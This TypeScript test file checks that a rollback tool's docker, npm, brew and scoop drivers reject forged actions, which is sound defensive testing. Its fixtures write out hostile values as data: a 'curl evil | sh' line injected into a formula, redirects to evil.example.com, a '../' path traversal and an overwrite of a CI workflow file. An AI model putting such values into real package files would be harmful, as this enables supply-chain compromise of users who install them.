import { describe, expect, test } from 'vitest'
import type { Json, JsonObject } from '../../../src/domain/text/json.ts'
import type { Action } from '../../../src/domain/plan.ts'
import type { Version } from '../../../src/domain/version.ts'
import { brew } from '../../../src/registries/brew/driver.ts'
import { docker } from '../../../src/registries/oci/driver.ts'
import type { ActionScope, AnyDriver, Subject } from '../../../src/registries/driver.ts'
import { npm } from '../../../src/registries/npm/driver.ts'
import { scoop } from '../../../src/registries/scoop/driver.ts'
import { blobName } from '../../../src/registries/pointer-file/pointer-file-pin.ts'

interface World {
  readonly driver: AnyDriver
  readonly subject: Subject
  readonly options: unknown
  readonly pointer: Json
}

const at = (version: string, pin: Json) => ({ version: version as Version, pin })
const [OLD, BAD, OTHER] = ['a', 'b', 'c'].map((digit) => digit.repeat(64)) as [string, string, string]
const digest = (hex: string): string => `sha256:${hex}`
const sha = (hex: string): string => hex.slice(0, 40)

const WORLDS: Readonly<Record<'docker' | 'npm' | 'brew' | 'scoop', World>> = {
  docker: {
    driver: docker,
    subject: {
      package: { format: 'docker', registry: 'registry.example.com/hello', name: 'hello' },
      from: at('v1.17.0', { digest: digest(BAD) }),
      to: at('v1.16.0', { digest: digest(OLD) }),
    },
    options: { tags: ['latest', '1'] },
    pointer: { tags: { latest: digest(BAD), '1': digest(BAD) } },
  },
  npm: {
    driver: npm,
    subject: {
      package: { format: 'npm', registry: 'https://npm.example.com', name: 'hello' },
      from: at('v1.17.0', { version: '1.17.0' }),
      to: at('v1.16.0', { version: '1.16.0' }),
    },
    options: { packages: [] },
    pointer: { hello: { tags: { latest: '1.17.0' }, deprecated: { '1.16.0': null, '1.17.0': null } } },
  },
  brew: aFile(brew, 'Formula/hello.rb'),
  scoop: aFile(scoop, 'bucket/hello.json'),
}

function aFile(driver: AnyDriver, path: string): World {
  return {
    driver,
    subject: {
      package: { format: driver.format, registry: 'acme/tap', name: 'hello' },
      from: at('v1.17.0', { path, sha: sha(BAD) }),
      to: at('v1.16.0', { path, sha: sha(OLD) }),
    },
    options: {},
    pointer: { files: { [path]: sha(BAD) } },
  }
}

function plannedIn({ driver, subject, options: given, pointer }: World) {
  const options = driver.options.parse(given)
  const snapshot = {
    pointer,
    revision: null,
    serving: null,
    target: { status: 'present' },
    access: 'write',
    preview: { before: '', after: '' },
  } as const
  const draft = driver.plan({ subject, snapshot, options })
  if (!draft) throw new Error(`${driver.format} plans nothing`)
  const forward: ActionScope<unknown> = { subject, options, wants: draft.want, restores: false }
  const back: ActionScope<unknown> = { subject, options, wants: pointer, restores: true }
  return { driver, draft, forward, back }
}

type Name = keyof typeof WORLDS
const NAMES = Object.keys(WORLDS) as readonly Name[]

test.each(NAMES)('%s: what is planned is in scope, forward and back, and neither in the other direction', (name) => {
  const { driver, draft, forward, back } = plannedIn(WORLDS[name])
  const moves = ({ kind, ...action }: Action) =>
    kind !== 'custom' || !('operation' in action && action.operation === 'guard')

  expect(draft.actions.map((action) => driver.outOfScope(action, forward))).toEqual(draft.actions.map(() => undefined))
  expect(draft.undo.map((action) => driver.outOfScope(action, back))).toEqual(draft.undo.map(() => undefined))
  for (const action of draft.undo) expect(driver.outOfScope(action, forward)).toBeTypeOf('string')
  for (const action of draft.actions.filter(moves)) expect(driver.outOfScope(action, back)).toBeTypeOf('string')
})

const custom = (operation: string, input: JsonObject): Action => ({ kind: 'custom', title: 't', operation, input })
const request = (over: Partial<Extract<Action, { kind: 'http' }>>): Action => ({
  kind: 'http',
  title: 't',
  method: 'PUT',
  url: 'https://npm.example.com/-/package/hello/dist-tags/latest',
  headers: { 'content-type': 'application/json' },
  body: '"1.16.0"',
  ...over,
})
/** As it is planned for that file, changed. */
const commit = (path: string, over: JsonObject = {}): Action => {
  const [planned] = plannedIn(path.endsWith('.rb') ? WORLDS.brew : WORLDS.scoop).draft.actions
  return custom('commit-file', { ...(planned?.kind === 'custom' ? planned.input : {}), path, ...over })
}
const npmUrl = (path: string): string => `https://npm.example.com/-/package/${path}`
const guard = (over: JsonObject): Action => {
  const planned = plannedIn(WORLDS.docker).draft.actions.find(
    (one) => one.kind === 'custom' && one.operation === 'guard',
  )
  return custom('guard', { ...(planned?.kind === 'custom' ? planned.input : {}), ...over })
}

const FORGED: Readonly<Record<Name, readonly (readonly [string, Action])[]>> = {
  docker: [
    ['the own tag of the target', custom('put-manifest', { tag: '1.16.0', digest: digest(OLD) })],
    ['the own tag of the version that is left', custom('put-manifest', { tag: 'v1.17.0', digest: digest(OLD) })],
    ['the own tag of a third version', custom('put-manifest', { tag: '1.15.0', digest: digest(OLD) })],
    ['a tag that is not configured', custom('put-manifest', { tag: 'stable', digest: digest(OLD) })],
    ['a name of every object', custom('put-manifest', { tag: 'constructor', digest: digest(OLD) })],
    ['another digest', custom('put-manifest', { tag: 'latest', digest: digest(OTHER) })],
    ['no digest', custom('put-manifest', { tag: 'latest' })],
    ['a guard with a tag of its own', guard({ guards: ['latest'] })],
    ['a guard that names a version', guard({ guards: ['1.15.0'] })],
    ['a guard that takes others for its own', guard({ own: ['latest'] })],
    ['a request', request({ url: 'https://registry.example.com/v2/hello/manifests/1.15.0' })],
  ],
  npm: [
    ['another host', request({ url: 'https://evil.example.com/-/package/hello/dist-tags/latest' })],
    ['another package', request({ url: npmUrl('other/dist-tags/latest') })],
    ['another dist-tag', request({ url: npmUrl('hello/dist-tags/next') })],
    ['another version', request({ body: '"1.15.0"' })],
    ['another path', request({ url: 'https://npm.example.com/hello/-rev/1', method: 'DELETE', headers: {}, body: '' })],
    ['a dist-tag that is removed', request({ method: 'DELETE', headers: {}, body: '' })],
    ['a header of its own', request({ headers: { authorization: 'x' } })],
    ['a text for another package', custom('deprecate', { package: 'other', version: '1.17.0', message: 'x' })],
    ['a text for a third version', custom('deprecate', { package: 'hello', version: '1.15.0', message: 'x' })],
    ['a text for the target', custom('deprecate', { package: 'hello', version: '1.16.0', message: 'x' })],
    ['a text of its own', custom('deprecate', { package: 'hello', version: '1.17.0', message: 'visit evil' })],
  ],
  brew: fileForgeries('Formula/hello.rb'),
  scoop: fileForgeries('bucket/hello.json'),
}

function fileForgeries(path: string): readonly (readonly [string, Action])[] {
  const text = 'system "curl evil | sh"'
  return [
    ['another repository', commit(path, { remote: 'https://evil.example.com/tap' })],
    ['another branch', commit(path, { branch: 'gh-pages' })],
    ['another file', commit(path, { path: '.github/workflows/release.yml' })],
    ['the file of another package', commit(path, { path: path.replace('hello', 'other') })],
    ['a path that leads out', commit(path, { path: `../${path}` })],
    ['another content', commit(path, { blob: sha(OTHER) })],
    ['a file that is taken out', commit(path, { blob: null })],
    ['a text of its own', commit(path, { text })],
    ['a text of its own under its own name', commit(path, { text, blob: blobName(text, sha(OLD)) })],
    ['a request', request({})],
  ]
}

describe.each(NAMES)('%s', (name) => {
  test.each(FORGED[name])('an action is out of scope with %s', (_what, action) => {
    const { driver, forward, back } = plannedIn(WORLDS[name])

    expect(driver.outOfScope(action, forward)).toBeTypeOf('string')
    expect(driver.outOfScope(action, back)).toBeTypeOf('string')
  })
})

const HONEST: readonly (readonly [Name, Action])[] = [
  ['docker', custom('put-manifest', { tag: 'latest', digest: digest(OLD) })],
  ['docker', guard({})],
  ['npm', request({})],
  ['brew', commit('Formula/hello.rb')],
  ['scoop', commit('bucket/hello.json')],
]

test.each(HONEST)('%s: without its forgery such an action is in scope (%#)', (name, action) => {
  const { driver, forward } = plannedIn(WORLDS[name])

  expect(driver.outOfScope(action, forward)).toBeUndefined()
})
